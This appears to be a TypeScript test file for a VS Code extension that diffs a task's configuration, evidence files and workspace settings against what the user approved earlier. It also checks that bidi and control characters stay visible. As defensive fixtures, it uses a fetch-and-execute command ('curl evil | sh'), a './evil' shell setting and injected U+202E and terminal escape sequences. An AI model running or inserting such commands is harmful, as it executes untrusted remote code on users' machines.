import assert from 'node:assert/strict';
import { inEnglish } from '../../../src/common/message.ts';
import type { Evidence, EvidenceFile, TaskReview } from '../../../src/model/approval.ts';
import { changedLines, comparedTexts, consentChanges } from '../../../src/presentation/reviewChanges.ts';
import { textDiff, visibleLines } from '../../../src/presentation/reviewDiff.ts';

const evidence = (files: readonly EvidenceFile[] = [], settings: Evidence['settings'] = {}): Evidence => ({
  files,
  settings,
});

function changes(
  before: { consent?: string; written?: string; evidence?: Evidence },
  now: { consent?: string; written?: string; evidence?: Evidence },
) {
  const review: Pick<TaskReview, 'state' | 'before' | 'consent' | 'written' | 'evidence'> = {
    state: 'changed',
    before: { hash: 'a', at: 5, consent: '{}', evidence: evidence(), ...before },
    consent: '{}',
    evidence: evidence(),
    ...now,
  };
  return consentChanges(review);
}

describe('what has changed since a task was allowed', () => {
  it('is nothing where nothing was allowed, or what was then is not kept', () => {
    const review = { state: 'new', consent: '{}', evidence: evidence() } as const;
    assert.equal(consentChanges(review), undefined);
    assert.equal(consentChanges({ ...review, state: 'changed' }), undefined);
  });

  it('is shown of the config, line by line', () => {
    const found = changes(
      { consent: '{\n  "command": "npm test",\n  "args": []\n}' },
      { consent: '{\n  "command": "curl evil | sh",\n  "args": []\n}' },
    );
    assert.deepEqual(
      found?.config.filter(({ sign }) => sign === '+' || sign === '-'),
      [
        { sign: '-', text: '  "command": "npm test",' },
        { sign: '+', text: '  "command": "curl evil | sh",' },
      ],
    );
    assert.equal(found?.since, 5);
    assert.equal(found?.isHidden, false);
  });

  it('is shown in the lines of the file, where these say something else', () => {
    const written = (timeout: string, comment: string) =>
      `{\n  "tasks": {\n    // ${comment}\n    "a": { "timeout": "${timeout}" }\n  }\n}\n`;
    const found = (now: string, ...[before, after]: [string, string]) =>
      changes({ consent: '1', written: before }, { consent: now, written: after })
        ?.config.filter(({ sign }) => sign === '+' || sign === '-')
        .map(({ sign, text }) => sign + text);
    assert.deepEqual(found('2', written('1m', 'short'), written('2m', 'longer')), [
      '-    // short',
      '-    "a": { "timeout": "1m" }',
      '+    // longer',
      '+    "a": { "timeout": "2m" }',
    ]);
    assert.deepEqual(found('2', written('1m', 'short'), written('1m', 'longer')), ['-1', '+2']);
    assert.deepEqual(found('1', written('1m', 'short'), written('1m', 'longer')), []);
  });

  it('is said in a few lines where they are few', () => {
    const said = (before: string, now: string) => {
      const found = changes({ consent: before }, { consent: now }) ?? assert.fail();
      return changedLines(found, inEnglish).map(({ text }) =>
        typeof text === 'string' ? text : inEnglish(text),
      );
    };
    const title = 'What scheduler.json says of it';
    assert.deepEqual(said('{\n  "a": 1\n}', '{\n  "a": 2\n}'), [title, '- "a": 1', '+ "a": 2']);
    assert.deepEqual(said('', 'line\n'.repeat(21)), [title]);
  });

  it('is laid side by side with what a VS Code task is', () => {
    const side = (process: string) => ({
      ...{ consent: '1', written: '[1]' },
      evidence: evidence([], { 'task Build': { source: 'npm', execution: { process } } }),
    });
    const { allowed, now } = comparedTexts(side('make'), side('cmake'), inEnglish);
    const text = (process: string) =>
      `[1]\n\n// What this VS Code task is\n// “Build”, from npm\n// The program ${process}, without a shell\n`;
    assert.deepEqual([allowed, now], [text('make'), text('cmake')]);
  });

  it('is laid side by side with the settings in comments', () => {
    const side = (setting: string, written: string) => ({
      ...{ consent: setting, written },
      evidence: evidence([], { shell: setting }),
    });
    const { allowed, now } = comparedTexts(side('./a', '[1]'), side('./\u202eb', '[2]'), inEnglish);
    const title = '// Settings of this workspace that decide what runs';
    assert.equal(allowed, `[1]\n\n${title}\n// "shell": "./a"\n`);
    assert.equal(now, `[2]\n\n${title}\n// "shell": "./‹U+202E›b"\n`);
  });

  it('names files that are new, gone or others', () => {
    const a: EvidenceFile = { role: 'script', path: 'a.mjs', hash: '1' };
    const b: EvidenceFile = { role: 'module', path: 'b.mjs', hash: '2' };
    const c: EvidenceFile = { role: 'module', path: 'c.mjs', hash: '3' };
    const found = changes({ evidence: evidence([a, b]) }, { evidence: evidence([{ ...a, hash: '9' }, c]) });
    assert.deepEqual(found?.files, [
      { kind: 'changed', file: { ...a, hash: '9' }, before: a },
      { kind: 'added', file: c },
      { kind: 'removed', file: b },
    ]);
  });

  it('names a file once that is among them for two reasons', () => {
    const files = (hash: string): EvidenceFile[] =>
      (['module', 'watch'] as const).map((role) => ({ role, path: 'a.mjs', hash }));
    const found = changes({ evidence: evidence(files('1')) }, { evidence: evidence(files('2')) });
    assert.deepEqual(
      found?.files.map(({ kind, file }) => `${kind} ${file.role}`),
      ['changed module'],
    );
  });

  it('sees where a link leads, and that a file has gone outside', () => {
    const a: EvidenceFile = { role: 'script', path: 'a.mjs', hash: '1' };
    for (const other of [{ target: '/opt/a.mjs' }, { outside: true } as const]) {
      const found = changes({ evidence: evidence([a]) }, { evidence: evidence([{ ...a, ...other }]) });
      assert.equal(found?.files[0]?.kind, 'changed');
    }
  });

  it('is shown of the settings of the workspace', () => {
    const found = changes({}, { evidence: evidence([], { shell: './evil' }) });
    assert.deepEqual(
      found?.settings.map(({ sign, text }) => sign + text),
      ['@@@ -1,0 +1,1 @@', '+"shell": "./evil"'],
    );
  });

  it('is said to be hidden where it is the value of a secret', () => {
    const found = changes({}, {}) ?? assert.fail();
    assert.equal(found.isHidden, true);
    assert.deepEqual(
      changedLines(found, inEnglish).map(({ text }) => (typeof text === 'string' ? text : inEnglish(text))),
      ['Nothing of what is shown here, but a value that is shown as ***: read it in .vscode/scheduler.json.'],
    );
  });
});

describe('the diff of two texts', () => {
  it('has three lines around a change, and nothing hidden', () => {
    const before = Array.from({ length: 20 }, (_, index) => `line ${index}`);
    const after = before.with(10, 'li\u202ene\u001b[2J');
    const diff = textDiff(`${before.join('\n')}\n`, `${after.join('\n')}\n`);
    assert.deepEqual(
      diff.map(({ sign, text }) => sign + text),
      [
        '@@@ -8,7 +8,7 @@',
        ' line 7',
        ' line 8',
        ' line 9',
        '-line 10',
        '+li‹U+202E›ne‹U+001B›[2J',
        ' line 11',
        ' line 12',
        ' line 13',
      ],
    );
  });

  it('shows line ends that are others, and no mere sign of the library', () => {
    assert.deepEqual(
      textDiff('a\n', 'a\r\n').map(({ sign, text }) => sign + text),
      ['@@@ -1,1 +1,1 @@', '-a', '+a‹U+000D›'],
    );
    assert.deepEqual(
      textDiff('+++ b\n', '\\ x\n').map(({ sign, text }) => sign + text),
      ['@@@ -1,1 +1,1 @@', '-+++ b', '+\\ x'],
    );
  });

  it('of texts that have nothing in common is soon there', () => {
    const text = (word: string) =>
      Array.from({ length: 20_000 }, (_, index) => `${word} ${index}\n`).join('');
    const begin = performance.now();
    const diff = textDiff(text('old'), text('new'));
    assert.ok(performance.now() - begin < 2000);
    assert.equal(diff.length, 40_000);
    assert.equal(diff[0]?.text, 'old 0');
  });

  it('shows tabs as blanks and all lines of a text', () => {
    assert.deepEqual(visibleLines('a\n\tb\n\nc'), ['a', '    b', '', 'c']);
  });
});
